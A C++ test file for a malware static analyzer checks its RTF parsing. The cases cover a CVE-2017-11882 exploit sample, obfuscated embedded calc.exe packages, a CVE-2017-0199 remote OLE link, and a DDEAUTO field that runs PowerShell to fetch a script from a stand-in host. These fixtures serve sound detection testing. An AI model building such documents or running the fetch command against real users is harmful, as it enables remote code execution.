// RTF documents through the whole static stage: objects as RtfInfo, children and
// extracted_files, findings as anomalies, and the signatures of rules/signatures/rtf.yaml.
// Real documents: InQuest's Frankenstein RTF (CVE-2017-11882), the RTF specification (clean),
// and RTFs built here around real objects of oletools' test data (calc.exe packaged by Word).
#include <algorithm>
#include <catch2/catch.hpp>

#include "../../rtf/tests/rtf_test_support.h"
#include "kensa/hashing/hashes.h"
#include "kensa/ole/compound_file.h"
#include "kensa/static_analysis/static_analyzer.h"

namespace kensa::static_analysis {
namespace {

using namespace rtf::testing;

const StaticAnalyzer& Analyzer() {
  static const std::unique_ptr<StaticAnalyzer> analyzer = [] {
    std::vector<std::string> warnings;
    auto created = StaticAnalyzer::Create(StaticConfig{}, &warnings);
    REQUIRE(created.has_value());
    return std::move(*created);
  }();
  return *analyzer;
}

const analysis::v1::Signature* FindSignature(const analysis::v1::StaticResult& result,
                                             const std::string& name) {
  for (const auto& signature : result.signatures()) {
    if (signature.name() == name) return &signature;
  }
  return nullptr;
}

std::vector<std::string> RtfSignatures(const analysis::v1::StaticResult& result) {
  std::vector<std::string> names;
  for (const auto& signature : result.signatures()) {
    if (signature.name().starts_with("rtf_")) names.push_back(signature.name());
  }
  std::sort(names.begin(), names.end());
  return names;
}

std::string AnomalyDetail(const analysis::v1::StaticResult& result, const std::string& code) {
  for (const auto& anomaly : result.anomalies()) {
    if (anomaly.code() == code) return anomaly.detail();
  }
  return "<no " + code + ">";
}

bool HasIndicator(const analysis::v1::StaticResult& result, analysis::v1::IndicatorType type,
                  const std::string& value) {
  return std::any_of(result.indicators().begin(), result.indicators().end(),
                     [&](const auto& indicator) {
                       return indicator.type() == type && indicator.value() == value;
                     });
}

// Word's own Package object for calc.exe, as oletools' sample_with_calc_embedded.doc holds it.
Bytes CalcPackageNative() {
  const Bytes doc =
      ReadCorpus("oletools-tests/tests/test-data/oleobj/sample_with_calc_embedded.doc");
  auto cf = ole::CompoundFile::Open(doc);
  REQUIRE(cf.has_value());
  auto stream = cf->ReadStream("ObjectPool/_1572084892/\x01Ole10Native");
  REQUIRE(stream.has_value());
  return Bytes(stream->begin() + 4, stream->end());  // the Packager data after its size
}

constexpr const char* kCalcSha256 =
    "c74f41325775de4777000161a057342cc57a04e8b7be17b06576412eff574dc5";

void SetU32(Bytes& bytes, std::size_t at, std::uint32_t value) {
  for (std::size_t i = 0; i < 4; ++i)
    bytes.at(at + i) = static_cast<std::uint8_t>(value >> (8 * i));
}
void SetU16(Bytes& bytes, std::size_t at, std::uint16_t value) {
  bytes.at(at) = static_cast<std::uint8_t>(value);
  bytes.at(at + 1) = static_cast<std::uint8_t>(value >> 8);
}

// A version 3 compound file whose streams all live in the mini stream: what an OLE object's
// storage looks like ([MS-CFB] 2.2 header, 2.3 FAT, 2.5 MiniFAT, 2.6 directory).
Bytes CompoundFileWith(const std::vector<std::pair<std::string, Bytes>>& streams,
                       const Bytes& root_clsid) {
  constexpr std::uint32_t kFree = 0xFFFFFFFFu, kEnd = 0xFFFFFFFEu, kFatSect = 0xFFFFFFFDu,
                          kNoStream = 0xFFFFFFFFu;
  Bytes mini;
  std::vector<std::uint32_t> mini_fat;
  std::vector<std::uint32_t> starts;
  for (const auto& [name, data] : streams) {
    starts.push_back(static_cast<std::uint32_t>(mini.size() / 64));
    const std::size_t sectors = (data.size() + 63) / 64;
    for (std::size_t i = 0; i < sectors; ++i) {
      mini_fat.push_back(i + 1 == sectors ? kEnd : static_cast<std::uint32_t>(mini_fat.size() + 1));
    }
    PutBytes(mini, data);
    mini.resize(sectors * 64 + starts.back() * 64, 0);
  }
  const std::size_t mini_sectors = (mini.size() + 511) / 512;
  Bytes file(512 * (4 + mini_sectors), 0);
  auto put32 = [&file](std::size_t at, std::uint32_t v) { SetU32(file, at, v); };
  auto put16 = [&file](std::size_t at, std::uint16_t v) { SetU16(file, at, v); };
  const std::uint8_t magic[8] = {0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1};
  std::copy(std::begin(magic), std::end(magic), file.begin());
  put16(24, 0x3E);
  put16(26, 3);
  put16(28, 0xFFFE);
  put16(30, 9);
  put16(32, 6);
  put32(44, 1);     // FAT sectors
  put32(48, 1);     // first directory sector
  put32(56, 4096);  // mini stream cutoff
  put32(60, 2);     // first MiniFAT sector
  put32(64, 1);     // MiniFAT sectors
  put32(68, kEnd);  // no DIFAT sectors
  put32(76, 0);     // the FAT is sector 0
  for (std::size_t i = 1; i < 109; ++i) put32(76 + 4 * i, kFree);
  auto sector = [](std::size_t n) { return 512 * (n + 1); };
  for (std::size_t i = 0; i < 128; ++i) put32(sector(0) + 4 * i, kFree);
  put32(sector(0), kFatSect);
  put32(sector(0) + 4, kEnd);
  put32(sector(0) + 8, kEnd);
  for (std::size_t i = 0; i < mini_sectors; ++i) {
    put32(sector(0) + 4 * (3 + i),
          i + 1 == mini_sectors ? kEnd : static_cast<std::uint32_t>(4 + i));
  }
  for (std::size_t i = 0; i < 128; ++i)
    put32(sector(2) + 4 * i, i < mini_fat.size() ? mini_fat[i] : kFree);
  std::copy(mini.begin(), mini.end(), file.begin() + static_cast<std::ptrdiff_t>(sector(3)));
  auto entry = [&](std::size_t id, const std::string& name, std::uint8_t type, std::uint32_t right,
                   std::uint32_t child, std::uint32_t start, std::uint64_t size) {
    const std::size_t at = sector(1) + 128 * id;
    for (std::size_t i = 0; i < name.size(); ++i)
      put16(at + 2 * i, static_cast<std::uint8_t>(name[i]));
    put16(at + 64, static_cast<std::uint16_t>(2 * (name.size() + 1)));
    file[at + 66] = type;
    file[at + 67] = 1;  // black
    put32(at + 68, kNoStream);
    put32(at + 72, right);
    put32(at + 76, child);
    put32(at + 116, start);
    put32(at + 120, static_cast<std::uint32_t>(size));
  };
  entry(0, "Root Entry", 5, kNoStream, 1, 3, mini.size());
  std::copy(root_clsid.begin(), root_clsid.end(),
            file.begin() + static_cast<std::ptrdiff_t>(sector(1) + 80));
  // Siblings as a right-leaning chain, names in [MS-CFB] order (shorter first).
  for (std::size_t i = 0; i < streams.size(); ++i) {
    const auto right = i + 1 < streams.size() ? static_cast<std::uint32_t>(i + 2) : kNoStream;
    entry(i + 1, streams[i].first, 2, right, kNoStream, starts[i], streams[i].second.size());
  }
  for (std::size_t i = streams.size() + 1; i < 4; ++i) {
    put32(sector(1) + 128 * i + 68, kNoStream);
    put32(sector(1) + 128 * i + 72, kNoStream);
    put32(sector(1) + 128 * i + 76, kNoStream);
  }
  return file;
}

// The \1Ole stream of a linked object whose absolute source is a URL moniker (CVE-2017-0199).
Bytes OleStreamWithUrl(const std::string& url) {
  Bytes moniker = {0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11,
                   0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B};
  PutU32(moniker, static_cast<std::uint32_t>(2 * (url.size() + 1)));
  for (char c : url) PutU16(moniker, static_cast<std::uint8_t>(c));
  PutU16(moniker, 0);
  Bytes stream;
  for (std::uint32_t v : {0x02000001u, 1u, 1u, 0u, 0u, 0u}) PutU32(stream, v);
  PutU32(stream, static_cast<std::uint32_t>(moniker.size()));
  PutBytes(stream, moniker);
  return stream;
}

TEST_CASE("the Frankenstein RTF is a CVE-2017-11882 exploit with its object extracted") {
  const Bytes rtf = FrankensteinRtf();
  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(rtf, "6b2c71bf.rtf", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  CHECK(result->sample().file_type().format() == "rtf");
  const auto& info = result->rtf();
  CHECK(info.header() == "rtf1");
  CHECK(info.code_page() == 1252);
  REQUIRE(info.object_count() == 1);
  const auto& object = info.objects(0);
  CHECK(object.offset() == 0x1C2);
  CHECK(object.has_object_group());
  CHECK(object.decoded_size() == 33458);
  CHECK(object.ole1_header());
  CHECK(object.ole1_format_id() == 2);
  CHECK(object.class_name() == "Equation.3");
  CHECK(object.native_declared_size() == 21504);
  CHECK(object.native_format() == "ole2");
  CHECK(object.clsid() == "0002ce02-0000-0000-c000-000000000046");
  CHECK(object.equation_editor());
  CHECK(object.equation().stream_size() == 18055);
  CHECK(object.equation().mtef_version() == 3);
  REQUIRE(object.equation().fonts_size() == 1);
  CHECK(object.equation().fonts(0).name_length() == 47);
  CHECK(object.equation().fonts(0).name().starts_with("\\xb8D\\xebq"));
  REQUIRE(object.equation().exploits_size() == 1);
  CHECK(object.equation().exploits(0).cve() == "CVE-2017-11882");
  CHECK(object.equation().exploits(0).offset() == 35);
  CHECK(object.child_name() == "Equation.3_object_0.bin");
  CHECK(object.child_sha256() ==
        "153d30df3c4725481fbafa8e84054afba0cb1371184a9b80f57a6d5c741f9d30");

  REQUIRE(result->extracted_files_size() == 1);
  CHECK(result->extracted_files(0).name() == "Equation.3_object_0.bin");
  CHECK(result->extracted_files(0).origin() == "rtf object");
  CHECK(result->extracted_files(0).size() == 21504);
  REQUIRE(children.size() == 1);
  CHECK(hashing::Sha256Hex(children[0].data) == object.child_sha256());

  const std::string exploit = AnomalyDetail(*result, "rtf_equation_editor_exploit");
  CHECK(exploit.starts_with("CVE-2017-11882: object 0 at offset 0x1c2 (Equation.3)"));
  CHECK(exploit.find("return address 0x00402114") != std::string::npos);
  CHECK(RtfSignatures(*result) ==
        std::vector<std::string>{"rtf_embedded_ole_object", "rtf_equation_editor_exploit",
                                 "rtf_equation_editor_object", "rtf_obfuscated", "rtf_objupdate"});
  const auto* signature = FindSignature(*result, "rtf_equation_editor_exploit");
  REQUIRE(signature != nullptr);
  CHECK(signature->severity() == analysis::v1::SEVERITY_CRITICAL);
  CHECK(signature->attack_techniques(0) == "T1203");
  CHECK(signature->malware_types(0) == "exploit");
  CHECK(signature->evidence(0).value() == exploit);
  // The command the shellcode runs is text of the Equation Native stream.
  const bool command =
      std::any_of(result->indicators().begin(), result->indicators().end(), [](const auto& i) {
        return i.type() == analysis::v1::INDICATOR_TYPE_COMMAND_LINE &&
               i.source() == "rtf.equation" &&
               i.value().find("powershell -noP -sta -w 1 -enc") != std::string::npos;
      });
  CHECK(command);
}

TEST_CASE("a Package object gives the packaged file as a child under its own name") {
  const Bytes native = CalcPackageNative();
  const std::string rtf =
      "{\\rtf1\\ansi\\ansicpg1252{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata\r\n" +
      HexLines(Ole1Embedded("Package", native)) + "}}}";
  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(AsBytes(rtf), "invoice.rtf", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  REQUIRE(result->rtf().objects_size() == 1);
  const auto& object = result->rtf().objects(0);
  CHECK(object.class_name() == "Package");
  CHECK(object.native_format() == "package");
  CHECK(object.package_file_name() == "calc.exe");
  CHECK(object.package_source_path() == "C:\\Windows\\System32\\calc.exe");
  // The unicode copy of the temp path, which oletools' author did not anonymize as the ANSI one.
  CHECK(object.package_temp_path() == "C:\\Users\\samir\\AppData\\Local\\Temp\\calc (2).exe");
  REQUIRE(result->extracted_files_size() == 1);
  CHECK(result->extracted_files(0).name() == "calc.exe");
  CHECK(result->extracted_files(0).sha256() == kCalcSha256);
  CHECK(result->extracted_files(0).size() == 31232);
  REQUIRE(children.size() == 1);
  CHECK(hashing::Md5Hex(children[0].data) == "40e85286357723f326980a3b30f84e4f");
  CHECK(object.offset() == rtf.find("\\objdata") + 8);
  CHECK(AnomalyDetail(*result, "rtf_embedded_package") ==
        "object 0 at offset 0x46: Package 'calc.exe' (31232 bytes) from "
        "C:\\Windows\\System32\\calc.exe");
  CHECK(RtfSignatures(*result) == std::vector<std::string>{"rtf_embedded_package"});
}

TEST_CASE("an OLE1 class name that is UTF-8 in form but a surrogate is decoded, and serializes") {
  // "\xED\xA0\x80" looks like a 3-byte UTF-8 sequence but encodes U+D800, which protobuf
  // refuses: rtf_fuzz found the analyzer keeping it as it was (a result that did not serialize).
  const std::string rtf = "{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata\r\n" +
                          HexLines(Ole1Embedded("Eq\xED\xA0\x80", Bytes(16, 0x41))) + "}}}";
  auto result = Analyzer().Analyze(AsBytes(rtf), "odd.rtf", AnalyzeOptions{}, nullptr);
  REQUIRE(result.has_value());
  REQUIRE(result->rtf().objects_size() == 1);
  CHECK(result->rtf().objects(0).class_name() == "Eq\xC3\xAD\xC2\xA0\xC2\x80");  // as Latin-1
  std::string wire;
  CHECK(result->SerializeToString(&wire));
}

TEST_CASE("the same package behind Word's tricks decodes to the same file") {
  const std::string hex = HexLines(Ole1Embedded("Package", CalcPackageNative()), 64);
  // Control words, groups and junk between digits, a \bin, a \'hh after an odd digit count,
  // huge parameters, a non-standard header, the object hidden in a footer, no closing braces.
  std::string rtf =
      "{\\rtvpn{\\*\\footerr{\\object\\objemb\\objupdate{\\*\\objclass Pack\\'61ge}{\\*\\objdata ";
  rtf += "0{\\*\\par1 1}05\\fs999999999999 00;0,0\\bin2 ";
  rtf += std::string("\x02\x00", 2);  // "0200" of the format id, as raw bytes
  rtf += "0000f\\'zz";                // the rest of it, and one odd digit Word drops
  const std::size_t start = std::string("0105000002000000").size();
  rtf += hex.substr(start);
  auto result = Analyzer().Analyze(AsBytes(rtf), "invoice.doc", AnalyzeOptions{}, nullptr);
  REQUIRE(result.has_value());
  CHECK(result->sample().file_type().format() == "rtf");
  REQUIRE(result->rtf().objects_size() == 1);
  CHECK(result->rtf().objects(0).objclass() == "Package");
  REQUIRE(result->extracted_files_size() == 1);
  CHECK(result->extracted_files(0).name() == "calc.exe");
  CHECK(result->extracted_files(0).sha256() == kCalcSha256);
  CHECK(result->rtf().header() == "rtvpn");
  CHECK(result->rtf().unclosed_groups() == 4);
  std::vector<std::string> tricks(result->rtf().obfuscations().begin(),
                                  result->rtf().obfuscations().end());
  std::sort(tricks.begin(), tricks.end());
  CHECK(tricks == std::vector<std::string>{"rtf_huge_parameter", "rtf_nonstandard_header",
                                           "rtf_objdata_bin", "rtf_objdata_embedded_groups",
                                           "rtf_objdata_hex_escape", "rtf_objdata_hex_junk",
                                           "rtf_objdata_odd_digits"});
  CHECK(RtfSignatures(*result) ==
        std::vector<std::string>{"rtf_embedded_package", "rtf_obfuscated", "rtf_objupdate"});
}

TEST_CASE("an OLE2Link object with a URL moniker is a remote link, its URL an indicator") {
  const Bytes word_document_clsid = {0x06, 0x09, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00,
                                     0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46};
  const Bytes storage =
      CompoundFileWith({{"\x01Ole", OleStreamWithUrl("http://198.51.100.23/doc/template.hta")}},
                       word_document_clsid);
  const std::string rtf =
      "{\\rtf1{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}"
      "{\\*\\objdata " +
      HexLines(Ole1Embedded("OLE2Link", storage)) + "}}}";
  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(AsBytes(rtf), "0199.rtf", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  REQUIRE(result->rtf().objects_size() == 1);
  const auto& object = result->rtf().objects(0);
  CHECK(object.objclass() == "Word.Document.8");
  CHECK(object.class_name() == "OLE2Link");
  CHECK(object.clsid() == "00020906-0000-0000-c000-000000000046");
  REQUIRE(object.link_targets_size() == 1);
  CHECK(object.link_targets(0) == "http://198.51.100.23/doc/template.hta");
  CHECK(object.child_name() == "OLE2Link_object_0.bin");
  REQUIRE(children.size() == 1);
  CHECK(children[0].data == storage);
  const std::string where = "object 0 at offset " + HexNumber(rtf.find("\\objdata") + 8);
  CHECK(AnomalyDetail(*result, "rtf_object_remote_link") ==
        where + ": OLE2Link links to http://198.51.100.23/doc/template.hta");
  CHECK(AnomalyDetail(*result, "rtf_object_autoupdate") ==
        where + ": OLE2Link loads when the document opens (\\objupdate, \\objautlink)");
  CHECK(RtfSignatures(*result) == std::vector<std::string>{"rtf_embedded_ole_object",
                                                           "rtf_objupdate", "rtf_remote_ole_link"});
  CHECK(HasIndicator(*result, analysis::v1::INDICATOR_TYPE_URL,
                     "http://198.51.100.23/doc/template.hta"));
}

TEST_CASE("a remote template and a DDEAUTO field are signed with their targets as indicators") {
  const std::string rtf =
      "{\\rtf1{\\*\\template http://203.0.113.50/office/normal.dotm}"
      "{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k "
      "powershell -c "
      "iwr http://203.0.113.51/a.ps1\"}}{\\fldrslt x}}}";
  auto result = Analyzer().Analyze(AsBytes(rtf), "letter.rtf");
  REQUIRE(result.has_value());
  CHECK(result->rtf().template_() == "http://203.0.113.50/office/normal.dotm");
  REQUIRE(result->rtf().field_instructions_size() == 1);
  CHECK(AnomalyDetail(*result, "rtf_remote_template") ==
        "the attached template is http://203.0.113.50/office/normal.dotm");
  CHECK(AnomalyDetail(*result, "rtf_dde_field").starts_with("field at offset 0x"));
  CHECK(RtfSignatures(*result) == std::vector<std::string>{"rtf_dde_field", "rtf_remote_template"});
  CHECK(HasIndicator(*result, analysis::v1::INDICATOR_TYPE_URL,
                     "http://203.0.113.50/office/normal.dotm"));
  CHECK(HasIndicator(*result, analysis::v1::INDICATOR_TYPE_URL, "http://203.0.113.51/a.ps1"));
}

TEST_CASE("the RTF specification is clean: no objects, no children, no RTF signature") {
  const Bytes rtf = ReadCorpus("oletools-tests/tests/test-data/msodde/RTF-Spec-1.7.rtf");
  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(rtf, "RTF-Spec-1.7.rtf", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  CHECK(result->rtf().object_count() == 0);
  CHECK(result->rtf().obfuscations().empty());
  CHECK(children.empty());
  CHECK(RtfSignatures(*result).empty());
}

}  // namespace
}  // namespace kensa::static_analysis
